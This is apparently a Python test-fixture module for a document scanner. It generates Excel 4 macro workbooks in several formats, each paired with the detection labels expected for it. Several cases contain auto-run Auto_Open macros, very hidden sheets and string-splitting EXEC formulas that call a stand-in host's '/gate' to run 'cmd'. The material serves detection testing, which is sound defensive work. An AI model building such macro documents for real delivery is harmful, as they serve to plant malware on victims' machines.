"""Excel 4 macros in workbooks of each kind (catalogue B43)."""

from __future__ import annotations

import struct

from office_maker import HOST, URL, Cases, package
from ole_maker import biff, compound, macro_book, string_token


def formulas() -> Cases:
    """The cases."""
    cases = Cases()
    run = string_token(f"cmd {URL}") + b"\x42\x01\x6e\x00"
    built = string_token("http") + string_token(f"://{HOST}/gate") + b"\x08\x42\x01\x6e\x00"
    old = biff(0x09, struct.pack("<HH", 2, 0x40)) + biff(
        0x06,
        struct.pack("<HH3s8sBB", 0, 0, bytes(3), bytes(8), 0, len(URL) + 5)
        + b"\x17"
        + bytes([len(URL)])
        + URL.encode()
        + b"\x42\x01\x6e",
    )
    cases.put(
        "B43 workbook",
        "a.xls",
        compound({"Workbook": macro_book(b"\x01", run)}),
        "office-auto-macro office-macro-suspicious",
    )
    cases.put(
        "B43 very hidden sheet",
        "a.xls",
        compound({"Workbook": macro_book(b"\x01", built, 2)}),
        "office-hidden-sheet office-auto-macro",
    )
    cases.put(
        "B43 name in other letters",
        "a.xls",
        compound({"Workbook": macro_book(b"aUTO_oPEN1", built, 1, False)}),
        "office-auto-macro",
    )
    cases.put("B43 workbook without a compound file", "a.xls", macro_book(b"\x01", run), "office-auto-macro")
    cases.put("B43 workbook of Excel 2", "a.xls", old, "office-macro")
    cells = f'<c r="A1" t="str"><f>CHAR(104)&amp;"ttp:"&amp;"//{HOST}/gate"</f></c><c r="A2"><f>EXEC(A1)</f></c>'
    sheet = f"<xm:macrosheet xmlns:xm='x'><sheetData><row>{cells}</row></sheetData></xm:macrosheet>"
    book = '<workbook><sheets><sheet name="M" state="veryHidden" r:id="r1"/></sheets>'
    book += '<definedName name="_xlnm.Auto_Open">M!A1</definedName></workbook>'
    cases.put(
        "B43 sheet in a package",
        "a.xlsm",
        package({"xl/workbook.xml": book, "xl/macrosheets/sheet1.xml": sheet}),
        "office-auto-macro office-macro-suspicious office-hidden-sheet",
    )
    cases.put(
        "B43 sheet in another place",
        "a.xlsm",
        package({"xl/workbook.xml": book, "xl/worksheets/s.xml": sheet}),
        "office-auto-macro",
    )
    cases.put(
        "B43 international sheet",
        "a.xlsm",
        package({"xl/workbook.xml": book, "xl/intlMacrosheets/s.xml": sheet.replace("xm:macrosheet", "worksheet")}),
        "office-auto-macro",
    )
    cases.put(
        "B43 binary workbook",
        "a.xlsb",
        package({"xl/workbook.bin": _binary_book(), "xl/macrosheets/sheet1.bin": _binary_sheet()}),
        "office-auto-macro office-macro-suspicious",
    )
    slk = f'ID;PWXL;N;E\r\nO;E\r\nNN;NAuto_open;ER1C1\r\nC;X1;Y1;K0;EEXEC("cmd "&"http"&"://{HOST}/gate")\r\nE\r\n'
    cases.put("B43 SYLK", "a.slk", slk, "office-auto-macro office-macro-suspicious")
    cases.put("B43 SYLK under another name", "a.csv", slk, "office-auto-macro")
    return cases


def _b12(kind: int, data: bytes) -> bytes:
    head = bytes([kind]) if kind < 128 else bytes([kind & 127 | 128, kind >> 7])
    return head + bytes([len(data) & 127 | 128, len(data) >> 7]) + data


def _wide(text: str) -> bytes:
    return struct.pack("<L", len(text)) + text.encode("utf-16-le")


def _binary_book() -> bytes:
    name = struct.pack("<LBL", 0, 0, 0xFFFFFFFF) + _wide("Auto_Open") + struct.pack("<L", 0)
    return _b12(156, struct.pack("<LL", 2, 1) + _wide("rId1") + _wide("Macro1")) + _b12(39, name)


def _binary_sheet() -> bytes:
    first, second = ("http", f"://{HOST}/gate")
    tokens = b"".join(b"\x17" + struct.pack("<H", len(text)) + text.encode("utf-16-le") for text in (first, second))
    tokens += b"\x08\x42\x01\x6e\x00"
    cell = struct.pack("<LL", 0, 0) + bytes(8) + struct.pack("<HL", 0, len(tokens)) + tokens + bytes(4)
    return _b12(129, b"") + _b12(0, bytes(17)) + _b12(9, cell)
